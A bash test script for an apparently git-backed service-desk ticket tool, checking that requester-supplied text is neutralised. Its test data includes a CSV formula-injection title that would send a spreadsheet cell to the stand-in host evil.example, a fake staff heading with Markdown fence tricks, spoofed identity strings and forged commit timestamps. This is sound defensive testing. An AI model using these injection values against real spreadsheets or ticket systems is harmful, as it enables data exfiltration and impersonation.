#!/bin/bash
# SPDX-License-Identifier: MIT
# Text from outside the IT team (requesters, pulls, imports) gives the same
# results in every locale and cannot disguise itself in what sd writes:
# CSV cells, the ticket file as a forge renders it, identities, id
# prefixes and times.
. "$(dirname "$0")/lib.sh"

# --- case folding is ASCII, whatever the locale ---
# Under tr_TR.UTF-8, tolower('I') is 'I': a comparison through the locale
# missed IT-Desk for --queue it-desk and took Ivan's own reply (as
# IVAN@...) for a response by staff, meeting the first-response clock.
r=$(store locale)
id=$(new_ticket "$r" "Printer" --queue IT-Desk --requester "Ivan <IVAN@example.com>")
SD_AUTHOR="Ivan <ivan@EXAMPLE.com>" SD_NOW=2026-11-23T09:30:00Z \
	expect_exit "locale: the requester replies" 0 sd -C "$r" comment "$id" -m "me again"
if locale -a 2>/dev/null | grep -qix 'tr_TR.utf8'; then
	locales="C C.UTF-8 tr_TR.UTF-8"
else
	locales="C C.UTF-8"
	skip "locale: tr_TR.UTF-8" "the locale is not installed (make deps generates it as root)"
fi
for loc in $locales; do
	LC_ALL=$loc expect_exit "$loc: list --queue it-desk" 0 sd -C "$r" list --queue it-desk --format '%(id) %(queue)'
	expect_out "$loc: --queue it-desk matches IT-Desk" "$id IT-Desk"
	LC_ALL=$loc SD_NOW=2026-11-23T10:00:00Z expect_exit "$loc: sla" 0 sd -C "$r" sla --json "$id"
	expect_json "$loc: the requester's own reply is no first response" "$OUT" \
		'd[0]["first_response"]["state"] + " " + str(d[0]["first_response"]["elapsed"])' "running 3600"
done

# --- the ticket file as a forge renders it ---
# A requester's heading must not pose as a staff entry, and a '<pre>' line
# or an unclosed fence must not swallow the entries after it; sd escapes
# such lines on write and reads them back exactly.
r=$(store forge)
desc=$'My printer:\n<pre>\n### Timeline'
fake=$'### Bob Tech · 2026-12-02 18:25 UTC\nResolved, closing.\n```\n<pre>\n```\n<!-- sd:comment id=x -->\n```'
id=$(new_ticket "$r" "Printer" -m "$desc")
SD_AUTHOR="Eve <eve@example.com>" SD_NOW=2026-11-23T09:10:00Z \
	expect_exit "forge: the requester comments" 0 sd -C "$r" comment "$id" -m "$fake"
SD_AUTHOR="Bob Tech <bob@example.com>" SD_NOW=2026-11-23T09:20:00Z \
	expect_exit "forge: staff answer" 0 sd -C "$r" comment "$id" -m "Real answer"
expect_exit "forge: show --json" 0 sd -C "$r" show --json "$id"
expect_json "forge: the description reads back exactly" "$OUT" 'd["description"]' "$desc"
expect_json "forge: the comment reads back exactly" "$OUT" \
	'[e["body"] for e in d["timeline"] if e["kind"] == "comment"][0]' "$fake"
if command -v cmark-gfm >/dev/null; then
	cmark-gfm --unsafe "$r/$(tpath "$id")" >"$tmp/forge.html"
	expect_eq "forge: only sd's own headings render, both of them" \
		"<h2>Timeline</h2>|<h3>Eve · 2026-11-23 09:10 UTC</h3>|<h3>Bob Tech · 2026-11-23 09:20 UTC</h3>" \
		"$(grep -oE '<h[1-6]>[^<]*</h[1-6]>' "$tmp/forge.html" | tr '\n' '|' | sed 's/|$//')"
	expect_eq "forge: no raw <pre> block opens" "" "$(grep -nx '<pre>' "$tmp/forge.html")"
	expect_contains "forge: the requester's heading shows as text" "$tmp/forge.html" \
		"<p>### Bob Tech · 2026-12-02 18:25 UTC"
	expect_contains "forge: a closed fence stays code" "$tmp/forge.html" "<pre><code>&lt;pre&gt;"
else
	skip "forge: rendering" "cmark-gfm is not installed (make deps installs it)"
fi
fsck_ok "forge" "$r"

# --- CSV cells that a spreadsheet would run as formulas ---
r=$(store csv)
id=$(new_ticket "$r" '=HYPERLINK("http://evil.example/?"&A1,"Click")' --requester "@attacker" -m $'-1 degrees\nin the server room')
expect_exit "csv: export" 0 sd -C "$r" export --format csv -o "$tmp/desk.csv"
expect_contains "csv: a formula title is neutralised" "$tmp/desk.csv" \
	"$id,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\",incident"
expect_contains "csv: @ is neutralised" "$tmp/desk.csv" ",'@attacker,"
expect_contains "csv: - is neutralised" "$tmp/desk.csv" "\"'-1 degrees"
expect_exit "csv: export --raw-csv" 0 sd -C "$r" export --format csv --raw-csv
expect_out_has "csv: --raw-csv keeps cells as they are" "$id,\"=HYPERLINK("
expect_out_has "csv: --raw-csv keeps @" ",@attacker,"
expect_exit "csv: --raw-csv is for CSV" 2 sd -C "$r" export --raw-csv
expect_sd_error "csv: --raw-csv with JSON: message"
r2=$(store csv-import)
expect_exit "csv: import of the export" 0 sd -C "$r2" import "$tmp/desk.csv"
expect_file_eq "csv: import takes the added quote off again" "$r/$(tpath "$id")" "$r2/$(tpath "$id")"
r3=$(store csv-raw-import)
expect_exit "csv: import --raw-csv" 0 sd -C "$r3" import --raw-csv "$tmp/desk.csv"
expect_exit "csv: import --raw-csv: show" 0 sd -C "$r3" show --json "$id"
expect_json "csv: import --raw-csv keeps the quote" "$OUT" 'd["requester"]' "'@attacker"

# --- identities: one name, one <address> ---
# A second <...> part would let "Eve <bob@example.com> <eve@example.com>"
# pass for Bob's address wherever sd takes the address from the brackets.
r=$(store ident)
id=$(new_ticket "$r" "Identity")
before=$(head_of "$r")
st=$(gstatus "$r")
for who in "Eve <bob@example.com> <eve@example.com>" "Eve<x> <eve@example.com>" "Eve > Bob <eve@example.com>"; do
	SD_AUTHOR="$who" expect_exit "ident: SD_AUTHOR='$who' refused" 2 sd -C "$r" comment "$id" -m hi
	expect_err_has "ident: SD_AUTHOR='$who': says why" "more than one '<' or '>'"
done
git -C "$r" config user.name "Bob <bob@example.com>"
git -C "$r" config user.email "eve@example.com"
SD_AUTHOR= expect_exit "ident: git user.name with <...> refused" 2 sd -C "$r" comment "$id" -m hi
expect_err_has "ident: git identity: says why" "git user.name or user.email contains '<' or '>'"
expect_unchanged "ident: nothing written" "$r" "$before" "$st"
git -C "$r" config user.name "Bob Tech"
SD_AUTHOR= expect_exit "ident: a plain git identity works" 0 sd -C "$r" comment "$id" -m hi

# --- id prefixes: at least 4 characters; candidates without titles ---
r=$(store prefix)
put_ticket "$r" 4abc00000000 "Salary list of Alice"
put_ticket "$r" 4abc10000000 "Bob's medical leave"
expect_exit "prefix: sd show 4 is too short" 2 sd -C "$r" show 4
expect_err "prefix: sd show 4: message" "sd: ticket id '4' is too short: give at least 4 characters of the id (see 'sd list')"
expect_exit "prefix: ambiguous, not on a terminal" 2 sd -C "$r" show 4abc
expect_err "prefix: candidates listed by id only" "sd: ticket id '4abc' is ambiguous; candidates:
  4abc00000000
  4abc10000000"
if command -v script >/dev/null 2>&1; then
	run script -qec "$SD -C $r show 4abc" /dev/null
	expect_out_has "prefix: on the owner's terminal, titles too" "4abc00000000  Salary list of Alice"
else
	skip "prefix: on a terminal" "script(1) not available"
fi

# --- sd log --json: RFC 3339 for any commit time ---
# git stores any integer as a commit's time; a pushed commit may carry one
# far outside four-digit years.
r=$(store log)
id=$(new_ticket "$r" "Old and new")
for d in 99999999999999 -99999999999; do
	SD_NOW=2026-11-23T09:05:00Z sd -C "$r" comment "$id" -m "at $d" >/dev/null
	c=$(printf 'tree %s\nparent %s\nauthor Mallory <m@example.com> %s +0000\ncommitter Mallory <m@example.com> %s +0000\n\nat %s\n' \
		"$(git -C "$r" rev-parse 'HEAD^{tree}')" "$(git -C "$r" rev-parse HEAD~1)" "$d" "$d" "$d" |
		git -C "$r" hash-object -t commit -w --stdin --literally)
	git -C "$r" update-ref HEAD "$c"
done
expect_exit "log: --json" 0 sd -C "$r" log --json "$id"
# (Entries may carry milliseconds, which RFC 3339 allows.)
expect_json "log: every time is RFC 3339" "$OUT" \
	'all(__import__("re").fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d+)?Z", e["at"]) for e in d)' "true"
expect_json "log: far times clamped and flagged" "$OUT" \
	'[(e["summary"], e["at"], e.get("time_clamped")) for e in d if e["kind"] == "commit"]' \
	"[[\"at -99999999999\", \"0000-01-01T00:00:00Z\", true], [\"sd: new ${id:0:4} \\\"Old and new\\\"\", \"2026-11-23T09:00:00Z\", null], [\"at 99999999999999\", \"9999-12-31T23:59:59Z\", true]]"

# --- sd import: times in order, none far in the future ---
r=$(store import-times)
cat >"$tmp/times.jsonl" <<'EOF'
{"title": "Backwards", "created": "2026-11-23T08:00:00Z", "updated": "2026-11-22T08:00:00Z"}
{"title": "From the future", "created": "2026-11-24T09:00:01Z"}
{"title": "Entry from the future", "timeline": [{"kind": "comment", "at": "2027-01-01T00:00:00Z", "body": "hi"}]}
{"title": "Within a day", "created": "2026-11-24T09:00:00Z"}
EOF
before=$(head_of "$r")
st=$(gstatus "$r")
expect_exit "import times: refused" 2 sd -C "$r" import "$tmp/times.jsonl"
expect_err_has "import times: created after updated" \
	"times.jsonl:1: created 2026-11-23T08:00:00Z is after updated 2026-11-22T08:00:00Z"
expect_err_has "import times: created in the future" \
	"times.jsonl:2: created 2026-11-24T09:00:01Z is more than a day in the future (it is now 2026-11-23T09:00:00Z"
expect_err_has "import times: an entry in the future" \
	"times.jsonl:3: timeline[0]: the entry's time 2027-01-01T00:00:00Z is more than a day in the future"
expect_unchanged "import times: nothing imported" "$r" "$before" "$st"
SD_NOW=2026-11-24T09:00:00Z expect_exit "import times: SD_NOW decides what the future is" 2 \
	sd -C "$r" import --dry-run "$tmp/times.jsonl"
expect_err_has "import times: later SD_NOW: still backwards" "times.jsonl:1:"
expect_lacks "import times: later SD_NOW: record 2 is fine" "$ERR" "times.jsonl:2:"

finish
